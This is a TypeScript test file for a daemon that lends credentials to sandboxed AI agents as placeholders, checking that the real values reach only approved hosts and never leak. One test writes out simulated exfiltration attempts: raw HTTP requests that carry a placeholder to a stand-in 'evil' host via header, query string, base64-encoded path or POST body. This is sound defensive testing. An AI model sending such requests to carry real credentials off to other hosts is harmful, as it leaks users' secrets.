import { spawn } from "node:child_process";
import { readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { createServer, type AddressInfo } from "node:net";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, expect, test } from "vitest";
import { DaemonProcess, World } from "../daemon.ts";
import { textOf } from "../kits/sandbox.ts";
import { dial, Outside, say, tlsThrough, tunnel } from "../kits/egress.ts";

// An agent in a sandbox has placeholders only. What it can do with them: reach the host that a credential is for, as policy allows. What it
// cannot: learn a value, use one elsewhere, or lend its placeholder to anybody. The real daemon and its real door; all hosts are on loopback.

const value = "s3cr3t+planted/value=0123456789";
const second = "second-planted-value-9876543210";

let forge: Outside;
let evil: Outside;
let hub: Outside;
let world: World;
let daemon: DaemonProcess;
let token: string;
let ca: string;
let placeholders: Record<string, string>;
let otherSession: { token: string; placeholders: Record<string, string> };

const open = () => world.operator().call<{ session: string; token: string; egress_ca: string; placeholders: Record<string, string> }>("session_open", { body: { agent: "clerk", on_behalf_of: "ana", purpose: "attack" } });
const log = async (type: string) => {
  const rows: Record<string, unknown>[] = [];
  for await (const row of world.operator().lines<Record<string, unknown>>("log", { query: { type, limit: "1000" } })) rows.push(row);
  return rows;
};

beforeAll(async () => {
  // A host that repeats whatever it is sent, in every form that it can think of.
  forge = await Outside.open((incoming, outgoing) => {
    const sent = String(incoming.headers.authorization ?? "").replace(/^(?:Bearer|Basic) /, "");
    const known = incoming.headers.authorization === `Bearer ${value}`;
    if (incoming.url === "/gzip") return void outgoing.writeHead(200, { "content-encoding": "gzip" }).end(gzipSync(`<${sent}>`));
    if (incoming.url === "/stream") return void outgoing.writeHead(200, { "content-type": "text/event-stream" }).write("data: first\n\n");
    if (incoming.url === "/odd") return void outgoing.writeHead(200, { "content-encoding": "compress" }).end(sent);
    outgoing.writeHead(200, { "x-echo": sent, "x-known": String(known) });
    for (const letter of `<${sent}|${Buffer.from(`user:${sent}`).toString("base64")}|${encodeURIComponent(sent)}|${Buffer.from(sent).toString("hex")}>`) outgoing.write(letter);
    outgoing.end();
  }, { name: "localhost" });
  evil = await Outside.open((_incoming, outgoing) => outgoing.end("thank you"));
  // Git's dumb protocol behind Basic.
  hub = await Outside.open((incoming, outgoing) => {
    if (incoming.headers.authorization === undefined) return void outgoing.writeHead(401, { "www-authenticate": 'Basic realm="hub"' }).end();
    outgoing.writeHead(200, { "content-type": "text/plain" }).end(`${"a".repeat(40)}\trefs/heads/main\n`);
  });
  world = new World({
    yaml: `
teams: { support: {} }
users: { ana: {} }
agents: { clerk: { team: support }, other: { team: support } }
egress: { private: ["127.0.0.1:${hub.port}", "localhost:${forge.port}", "127.0.0.1:${evil.port}"], ca: outside.pem }
credentials:
  forge:
    from: { file: forge.key }
    serves: { hosts: ["localhost:${forge.port}"] }
    inject: { header: { name: Authorization, prefix: "Bearer " } }
    as: FORGE_TOKEN
  second:
    from: { file: second.key }
    serves: { hosts: ["localhost:${forge.port}"], agents: [clerk] }
    inject: { header: { name: X-Second } }
    as: SECOND_TOKEN
  hub:
    from: { file: second.key }
    serves: { hosts: ["http://127.0.0.1:${hub.port}"] }
    inject: { askpass: { user: bot } }
`,
    policies: {
      "web.cedar": `
@id("org.web")
permit (principal, action in Action::"egress", resource);
@id("org.not-second") @reason("The second credential is not for agents.")
forbid (principal, action in Action::"egress", resource) when { context.input has credentials && context.input.credentials.contains("second") };
`,
    },
  });
  writeFileSync(join(world.folder, "outside.pem"), forge.ca);
  writeFileSync(join(world.folder, "forge.key"), value, { mode: 0o600 });
  writeFileSync(join(world.folder, "second.key"), second, { mode: 0o600 });
  daemon = await DaemonProcess.start(world);
  ({ token, egress_ca: ca, placeholders } = await open());
  otherSession = await open();
}, 60_000);

afterAll(async () => {
  await daemon?.stop();
  await Promise.all([forge?.[Symbol.asyncDispose](), evil?.[Symbol.asyncDispose](), hub?.[Symbol.asyncDispose]()]);
});

/** A request to the forge over TLS, as a program in the sandbox sends it. */
async function ask(head: string, { as = token, body = "" }: { as?: string; body?: string } = {}): Promise<string> {
  const { socket } = await tunnel(daemon.url, as, `localhost:${forge.port}`);
  const tls = await tlsThrough(socket, { ca, servername: "localhost" });
  return say(tls, `${head}Host: localhost:${forge.port}\r\nConnection: close\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
}
const plainly = async (text: string) => say(await dial(daemon.url, token), text);

test("the placeholder reaches its host as the value, and comes back as the placeholder whatever the host does with it", async () => {
  const placeholder = placeholders["FORGE_TOKEN"] ?? "";
  expect(placeholder).toMatch(/^lanyard-[a-z2-7]{26}$/);
  const said = await ask(`GET / HTTP/1.1\r\nAuthorization: Bearer ${placeholder}\r\n`);
  expect(forge.seen.at(-1)?.headers.authorization).toBe(`Bearer ${value}`);
  expect(said).toContain("x-known: true");
  expect(said).toContain(`x-echo: ${placeholder}`);
  expect(said.replace(/\r\n[0-9a-f]+\r\n/g, "")).not.toContain(value);
  for (const form of [value, encodeURIComponent(value), Buffer.from(value).toString("hex"), Buffer.from(`user:${value}`).toString("base64").slice(8, -4)]) expect(said).not.toContain(form);
});

test("an answer that is compressed against what was asked is opened; one that cannot be is withheld", async () => {
  const head = (path: string) => `GET ${path} HTTP/1.1\r\nAccept-Encoding: gzip\r\nAuthorization: Bearer ${placeholders["FORGE_TOKEN"]}\r\n`;
  const said = await ask(head("/gzip"));
  expect(forge.seen.at(-1)?.headers["accept-encoding"]).toBe("identity");
  expect(said).toContain(`<${placeholders["FORGE_TOKEN"]}>`);
  const odd = await ask(head("/odd"));
  expect(odd).not.toContain(value);
  expect(odd).toContain("cannot be looked through");
});

test("policy sees names, never values, and can say who is lent what", async () => {
  const before = forge.seen.length;
  const said = await ask(`GET / HTTP/1.1\r\nX-Second: ${placeholders["SECOND_TOKEN"]}\r\n`);
  expect(said).toContain("The second credential is not for agents.");
  expect(forge.seen).toHaveLength(before);
  const [denied] = (await log("decision")).filter(({ effect }) => effect === "deny").toReversed();
  const explained = await world.operator().call<{ input: { args: { credentials: string[]; headers: Record<string, string> } } }>("explain", { at: { ref: String(denied?.["seq"]) } });
  expect(explained.input.args.credentials).toEqual(["second"]);
  expect(explained.input.args.headers["x-second"]).toBe(placeholders["SECOND_TOKEN"]);
});

test("anywhere else it is refused, recorded and an alarm, and nothing arrives", async () => {
  const placeholder = placeholders["FORGE_TOKEN"] ?? "";
  const [reachedForge, reachedEvil, misused] = [forge.seen.length, evil.seen.length, (await log("credential.misuse")).length];
  const there = `http://127.0.0.1:${evil.port}`;
  const answers = [
    await plainly(`GET ${there}/ HTTP/1.1\r\nHost: 127.0.0.1:${evil.port}\r\nAuthorization: Bearer ${placeholder}\r\nConnection: close\r\n\r\n`),
    await plainly(`GET ${there}/?k=${placeholder} HTTP/1.1\r\nHost: 127.0.0.1:${evil.port}\r\nConnection: close\r\n\r\n`),
    await plainly(`GET ${there}/${Buffer.from(`x${placeholder}`).toString("base64url")} HTTP/1.1\r\nHost: 127.0.0.1:${evil.port}\r\nConnection: close\r\n\r\n`),
    await plainly(`POST ${there}/ HTTP/1.1\r\nHost: 127.0.0.1:${evil.port}\r\nContent-Length: ${placeholder.length}\r\nConnection: close\r\n\r\n${placeholder.toUpperCase()}`),
    await ask(`GET / HTTP/1.1\r\nX-Other: ${placeholder}\r\n`),
    await ask(`POST / HTTP/1.1\r\nAuthorization: Bearer ${placeholder}\r\n`, { body: placeholder }),
    await ask(`GET / HTTP/1.1\r\nAuthorization: Basic ${Buffer.from(`x:${placeholder}`).toString("base64")}\r\n`),
    await ask(`GET / HTTP/1.1\r\nAuthorization: Bearer ${otherSession.placeholders["FORGE_TOKEN"]}\r\n`),
  ];
  for (const said of answers) expect(said).toContain("credential_misused");
  expect([forge.seen.length, evil.seen.length]).toEqual([reachedForge, reachedEvil]);
  expect((await log("credential.misuse")).length - misused).toBe(answers.length);
  expect(daemon.log).toContain('"event":"credential.misused"');
});

test("a placeholder of another session is good there and nowhere else", async () => {
  await ask(`GET / HTTP/1.1\r\nAuthorization: Bearer ${otherSession.placeholders["FORGE_TOKEN"]}\r\n`, { as: otherSession.token }).catch(() => {}); // its authority is another: TLS fails here
  const own = await open();
  const { socket } = await tunnel(daemon.url, own.token, `localhost:${forge.port}`);
  const tls = await tlsThrough(socket, { ca: own.egress_ca, servername: "localhost" });
  expect(await say(tls, `GET / HTTP/1.1\r\nHost: localhost:${forge.port}\r\nAuthorization: Bearer ${own.placeholders["FORGE_TOKEN"]}\r\nConnection: close\r\n\r\n`)).toContain("x-known: true");
});

test("revoked, it is refused at once; restored, it is lent again; uses are counted", async () => {
  const head = `GET / HTTP/1.1\r\nAuthorization: Bearer ${placeholders["FORGE_TOKEN"]}\r\n`;
  await world.operator().call("lending_revoke", { body: { name: "forge" } });
  const reached = forge.seen.length;
  expect(await ask(head)).toContain("was revoked");
  expect(forge.seen).toHaveLength(reached);
  await world.operator().call("lending_restore", { body: { name: "forge" } });
  expect(await ask(head)).toContain("x-known: true");
  const { credentials } = await world.operator().call<{ credentials: { name: string; uses: Record<string, number> }[] }>("lending_list");
  expect(credentials.find(({ name }) => name === "forge")?.uses["clerk"]).toBeGreaterThanOrEqual(4);
});

test("revoked while an answer streams, the stream ends", async () => {
  const { socket } = await tunnel(daemon.url, token, `localhost:${forge.port}`);
  const tls = await tlsThrough(socket, { ca, servername: "localhost" });
  const said = say(tls, `GET /stream HTTP/1.1\r\nHost: localhost:${forge.port}\r\nAuthorization: Bearer ${placeholders["FORGE_TOKEN"]}\r\n\r\n`);
  await new Promise<void>((begun) => void tls.on("data", (chunk: Buffer) => chunk.includes("first") && begun()));
  await world.operator().call("lending_revoke", { body: { name: "forge" } });
  expect(await said).toContain("data: first");
  await world.operator().call("lending_restore", { body: { name: "forge" } });
});

test("git presents its placeholder by itself, and gets through as whom it stands for", async () => {
  const proxy = createServer((connection) => {
    void dial(daemon.url, token).then((door) => {
      connection.pipe(door).pipe(connection);
      for (const end of [connection, door]) end.on("error", () => connection.destroy());
    }, () => connection.destroy());
  });
  await new Promise<void>((done) => void proxy.listen(0, "127.0.0.1", done));
  const variables = Object.fromEntries(Object.entries(placeholders).filter(([name]) => name.startsWith("GIT_")));
  const git = spawn("git", ["ls-remote", `http://127.0.0.1:${hub.port}/repo.git`], {
    env: { PATH: process.env["PATH"], HOME: world.folder, http_proxy: `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`, ...variables },
    stdio: ["ignore", "pipe", "pipe"],
  });
  const [out, err] = await Promise.all([textOf(git.stdout), textOf(git.stderr)]);
  proxy.close();
  expect(`${out}${err}`).toContain("refs/heads/main");
  expect(hub.seen.at(-1)?.headers.authorization).toBe(`Basic ${Buffer.from(`bot:${second}`).toString("base64")}`);
});

test("no value is in the ledger, the logs, the data folder or the daemon's command line", async () => {
  await daemon.stop();
  const kept = (folder: string): string[] => readdirSync(folder).flatMap((name) => (statSync(join(folder, name)).isDirectory() ? kept(join(folder, name)) : [join(folder, name)]));
  const files = kept(world.folder).filter((path) => !path.endsWith(".key") || path.includes("/data/"));
  expect(files.length).toBeGreaterThan(3);
  for (const [what, bytes] of [...files.map((path) => [path, readFileSync(path)] as const), ["log", Buffer.from(daemon.log)] as const]) {
    for (const planted of [value, second]) {
      for (const form of [planted, Buffer.from(planted).toString("base64").slice(0, 36), Buffer.from(planted).toString("hex"), encodeURIComponent(planted)]) expect(bytes.includes(form), `${form} in ${what}`).toBe(false);
    }
  }
});
